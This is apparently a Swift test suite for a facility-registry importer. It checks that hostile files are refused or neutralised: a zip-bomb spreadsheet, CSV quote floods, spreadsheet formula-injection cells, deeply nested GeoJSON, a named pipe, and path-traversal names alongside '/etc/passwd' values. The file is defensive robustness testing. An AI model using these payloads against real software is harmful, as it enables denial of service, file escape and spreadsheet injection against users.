import Foundation
import Testing

/// Files that are made to hurt: each gets a clear error, and the registry stays as it was, to the byte.
@Suite(.timeLimit(.minutes(5)))
struct HostileFilesTests {
  private static let hasGDAL = FileManager.default.isExecutableFile(atPath: "/usr/bin/ogr2ogr")
  private static let hasZip = FileManager.default.isExecutableFile(atPath: "/usr/bin/zip")

  private let program: Program

  init() throws {
    program = try Program()
    #expect(try program.run("init").status == 0)
    try program.write("id,kind,name\nA,nursing-home,甲院\n", to: "good.csv")
    #expect(try program.run("import", "facilities", "good.csv").status == 0)
  }

  /// Takes a file, which must be refused, and returns what is said.
  private func refusal(_ name: String) throws -> String {
    let before = try program.bytes("fuwang.sqlite")
    let outcome = try program.run("import", "facilities", name)
    #expect(outcome.status == 65, "\(outcome.errors)")
    #expect(try program.bytes("fuwang.sqlite") == before)
    return outcome.errors
  }

  private func shell(_ script: String) throws {
    let process = Process()
    process.executableURL = URL(filePath: "/bin/sh")
    process.arguments = ["-ec", script]
    process.currentDirectoryURL = program.folder
    try process.run()
    process.waitUntilExit()
    #expect(process.terminationStatus == 0, "\(script)")
  }

  @Test(.enabled(if: hasGDAL && hasZip, "gdal-bin or zip is not installed"))
  func `a workbook that is a thousand times as large as it looks`() throws {
    defer { program.remove() }
    try FileManager.default.createDirectory(
      at: program.folder.appending(path: "b/_rels"), withIntermediateDirectories: true)
    try FileManager.default.createDirectory(
      at: program.folder.appending(path: "b/xl/_rels"), withIntermediateDirectories: true)
    let types = "http://schemas.openxmlformats.org/package/2006/content-types"
    let relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    let media = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    try program.write(
      """
      <Types xmlns="\(types)"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
      <Override PartName="/xl/workbook.xml" ContentType="\(media).sheet.main+xml"/>
      <Override PartName="/xl/sheet1.xml" ContentType="\(media).worksheet+xml"/></Types>
      """, to: "b/[Content_Types].xml")
    try program.write(
      """
      <Relationships xmlns="\(relations)"><Relationship Id="r" Type="\(office)/officeDocument" Target="xl/workbook.xml"/></Relationships>
      """, to: "b/_rels/.rels")
    try program.write(
      "<workbook xmlns=\"\(main)\" xmlns:r=\"\(office)\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"s\"/></sheets></workbook>",
      to: "b/xl/workbook.xml")
    try program.write(
      "<Relationships xmlns=\"\(relations)\"><Relationship Id=\"s\" Type=\"\(office)/worksheet\" Target=\"sheet1.xml\"/></Relationships>",
      to: "b/xl/_rels/workbook.xml.rels")
    try shell(
      """
      {
        printf '<worksheet xmlns="\(main)"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        head -c 300000000 /dev/zero | tr '\\0' a
        printf '</t></is></c></row></sheetData></worksheet>'
      } >b/xl/sheet1.xml
      cd b && zip -q -r ../bomb.xlsx . && rm -r ../b
      """)
    #expect(try program.bytes("bomb.xlsx").count < 1_000_000)
    let said = try refusal("bomb.xlsx")
    #expect(said.contains("longer than") || said.contains("memory") || said.contains("time"), "\(said)")
  }

  @Test(
    arguments: [
      (String(repeating: "\"", count: 2_000_001), "is opened on this line and never closed"),
      ("id,kind,name\n\"" + String(repeating: "\"\"", count: 1_000_000), "never closed"),
      ("id,kind,name\n" + String(repeating: "\",\"", count: 700_000), "more than"),
    ])
  func `a file of quotes`(text: String, reason: String) throws {
    defer { program.remove() }
    try program.write(text, to: "q.csv")
    let said = try refusal("q.csv")
    #expect(said.contains(reason) || said.contains("longer than"), "\(said.prefix(500))")
  }

  @Test func `formulas come in as texts, and go out so that no spreadsheet computes them`() throws {
    defer { program.remove() }
    let formula = "=HYPERLINK(\"http://example.org/\"\"&A1\",\"甲\")"
    let cell = "\"" + formula.replacing("\"", with: "\"\"") + "\""
    try program.write("id,kind,name,address\nF,nursing-home,\(cell),@SUM(1+1)\n", to: "f.csv")
    #expect(try program.run("import", "facilities", "f.csv").status == 0)
    for options in [[], ["--excel", "-o", "o.csv"]] {
      let outcome = try program.run(["export", "facilities"] + options)
      let text =
        options.isEmpty ? outcome.output : String(decoding: try program.bytes("o.csv"), as: UTF8.self)
      #expect(text.contains("\"'=HYPERLINK("))
      #expect(text.contains(",'@SUM(1+1)"))
      #expect(!text.contains(",=") && !text.contains("\"=") && !text.contains(",@"))
    }
    // It is the same text when it comes back.
    #expect(try program.run("import", "facilities", "o.csv").errors.contains("0 added, 0 changed"))
  }

  @Test(.enabled(if: hasGDAL, "gdal-bin is not installed"))
  func `a GeoJSON nested a hundred thousand deep`() throws {
    defer { program.remove() }
    let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
    try program.write(
      "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"geometry\":{\"type\":\"Polygon\",\"coordinates\":\(deep)},\"properties\":{\"name\":\"甲\"}}]}",
      to: "n.geojson")
    #expect(try refusal("n.geojson").contains("n.geojson: "))
  }

  @Test(.enabled(if: hasGDAL, "gdal-bin is not installed"))
  func `a path in a name is a name`() throws {
    defer { program.remove() }
    let name = "../../../evil"
    try program.write(
      """
      {"type":"FeatureCollection","name":"\(name)","features":[{"type":"Feature","geometry":null,
      "properties":{"id":"/etc/passwd","kind":"nursing-home","name":"\(name).csv","source":"file:///etc/passwd"}}]}
      """, to: "p.geojson")
    let before = Set(try FileManager.default.contentsOfDirectory(atPath: program.folder.path))
    let outcome = try program.run("import", "facilities", "p.geojson")
    #expect(outcome.status == 0, "\(outcome.errors)")
    #expect(try program.run("export", "facilities").output.contains("/etc/passwd,nursing-home,\(name).csv"))
    let after = Set(try FileManager.default.contentsOfDirectory(atPath: program.folder.path))
    #expect(after.subtracting(before).isSubset(of: [".out", ".err"]))
    let above = program.folder.deletingLastPathComponent()
    #expect(!FileManager.default.fileExists(atPath: above.appending(path: "evil.csv").path))
  }

  @Test func `a pipe`() throws {
    defer { program.remove() }
    try shell("mkfifo pipe.csv")
    #expect(try refusal("pipe.csv").contains("pipe.csv: "))
  }

  @Test func `a file that grows while it is read`() throws {
    defer { program.remove() }
    let rows = (0..<20_000).map { "R\($0),nursing-home,院\($0)\n" }.joined()
    try program.write("id,kind,name\n" + rows, to: "g.csv")
    try program.write(rows.replacing("R", with: "S"), to: "more")
    let writer = Process()
    writer.executableURL = URL(filePath: "/bin/sh")
    writer.arguments = ["-c", "for n in 1 2 3 4 5 6 7 8 9; do cat more; sleep 0.2; done >>g.csv"]
    writer.currentDirectoryURL = program.folder
    try writer.run()
    defer { writer.waitUntilExit() }
    #expect(try refusal("g.csv").contains("the file changes while it is read"))
  }
}
